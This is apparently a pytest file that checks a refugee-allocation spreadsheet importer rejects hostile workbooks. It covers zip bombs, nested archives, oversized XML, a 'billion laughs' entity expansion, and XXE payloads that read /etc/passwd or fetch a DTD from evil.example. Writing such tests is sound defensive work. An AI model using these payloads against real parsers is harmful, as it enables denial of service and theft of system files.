"""Workbooks that swell, nest or go on without end: a fault each, in seconds and little memory."""

import zipfile

import pytest

from tests.hostile import workbooks
from tests.hostile.workbooks import AAS, HEADER, RELATIONS, SHEET, TEXTS, parts, put, row, sheet

MEGABYTE = 1024 * 1024
LIMIT = "more than 200 MB when unpacked"


def test_a_small_workbook_put_together_by_hand_is_read(place, refused):
    put(place, parts())
    refused("allocation.xlsx, Fordeling", "10 refugees, the round 118")


@pytest.mark.parametrize("part", [SHEET, TEXTS, "xl/media/picture.png"])
def test_a_part_that_inflates_beyond_all_measure(place, refused, part):
    put(place, parts() | {part: b"\0" * (201 * MEGABYTE)})
    refused("allocation.xlsx", LIMIT)


def test_a_part_that_is_larger_than_it_says(place, refused):
    size = 201 * MEGABYTE
    path = put(place, parts() | {SHEET: b" " * size})
    workbooks.declare(path, size, 1000)
    refused("allocation.xlsx", "damaged")


def test_a_part_that_is_smaller_than_it_says(place, refused):
    content = parts()
    workbooks.declare(put(place, content), len(content[SHEET]), 0xFFFFFFF0)
    refused("allocation.xlsx", LIMIT)


def test_very_many_parts(place, refused):
    path = put(place, parts())
    with zipfile.ZipFile(path, "a") as package:
        for number in range(12_000):
            package.writestr(str(number), b"")
    refused("allocation.xlsx", "damaged")


def test_a_workbook_in_a_workbook_in_a_workbook(place, refused):
    inner = put(place, {"a": bytes(100 * MEGABYTE)}).read_bytes()
    for _ in range(3):
        inner = put(place, {f"{number}.xlsx": inner for number in range(9)}).read_bytes()
    put(place, {"xl/workbook.xml": inner, "xl/embeddings/a.xlsx": inner})
    refused("allocation.xlsx", "damaged")


@pytest.mark.parametrize("packing", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_kind_of_packing_that_can_ask_for_any_memory(place, refused, packing):
    put(place, parts(), packing)
    refused("allocation.xlsx", "damaged")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        pytest.param("<a/>" * 5_100_000, LIMIT, id="elements"),
        pytest.param("<a>" * 50_000, "damaged", id="elements in elements"),
        pytest.param(f'<a b="{"x" * 20 * MEGABYTE}"/>', "damaged", id="one attribute"),
        pytest.param("<a " + " ".join(f'b{n}=""' for n in range(200_000)) + "/>", "damaged",
                     id="attributes"),
        pytest.param(f"<!--{'x' * 20 * MEGABYTE}-->", "damaged", id="a comment"),
    ],
)  # fmt: skip
def test_a_sheet_of_nothing_else(place, refused, content, told):
    put(place, parts(sheet(content)))
    refused("allocation.xlsx", told)


def test_a_cell_of_100_mb(place, refused):
    put(place, parts(sheet(HEADER, row("0214", "Å" * 50 * MEGABYTE, "10"))))
    refused("row 2, kommunenavn", "more than 10000 characters")


def test_a_long_text_that_many_cells_share(place, refused):
    text = f"<si><t> å{'x' * 9000} </t></si>"
    shared = "<row>" + '<c t="s"><v>0</v></c>' * 10 + "</row>"
    put(place, parts(sheet(HEADER, shared * 30_000), texts=text))
    refused("allocation.xlsx", "characters")


def test_long_texts_that_nobody_uses(place, refused):
    put(place, parts(texts=f"<si><t>{'x' * 9000}</t></si>" * 3_000))
    refused("allocation.xlsx", "too many different texts")


def test_a_million_empty_rows_around_a_real_one(place, refused):
    empty = "".join(f'<row r="{number}"/>' for number in range(3, 1_000_000))
    last = row("0219", "Bærum", "65", attributes='r="1000001"')
    put(place, parts(sheet(HEADER, AAS, empty, last)))
    refused("allocation.xlsx, Fordeling", "75 refugees, the round 118")


def test_rows_that_hold_something_without_end(place, refused):
    put(place, parts(sheet(HEADER, "<row><c><v>1</v></c></row>" * 100_001)))
    refused("allocation.xlsx, Fordeling", "more than 100000 rows")


@pytest.mark.parametrize("sheets", [1_001, 999])
def test_one_part_that_is_very_many_sheets(place, refused, sheets):
    listed = (f'<sheet name="{n}" sheetId="{n}" r:id="s1"/>' for n in range(sheets))
    put(place, parts(sheet(" " * 10 * MEGABYTE), sheets="".join(listed)))
    refused("allocation.xlsx", LIMIT if sheets == 999 else "more than 1000 sheets")


def test_relations_without_end(place, refused):
    put(place, parts(relations='<Relationship Id="a" Type="b" Target="c"/>' * 600_000))
    refused("allocation.xlsx", LIMIT)


def test_a_number_format_without_end(place, refused):
    put(place, parts(styles=f'<numFmt numFmtId="200" formatCode="{"[" * 900_000}"/>'))
    refused("allocation.xlsx, Fordeling", "10 refugees")


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{number} "{again}">'
    for number in range(1, 12)
    for again in [f"&a{number - 1};" * 10]
)
FILE = '<!ENTITY a11 SYSTEM "file:///etc/passwd">'
NETWORK = '<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a; <!ENTITY a11 "x">'


@pytest.mark.parametrize(
    ("entities", "part"),
    [(LAUGHS, SHEET), (LAUGHS, TEXTS), (LAUGHS, RELATIONS), (FILE, SHEET), (NETWORK, SHEET)],
    ids=["laughs", "laughs in texts", "laughs in relations", "a file", "the network"],
)
def test_entities(place, refused, entities, part):
    content = parts(sheet(HEADER, row("0214", "&a11;", "10")))
    content[part] = f"<!DOCTYPE a [{entities}]>".encode() + content[part]
    put(place, content)
    refused("allocation.xlsx", "broken")
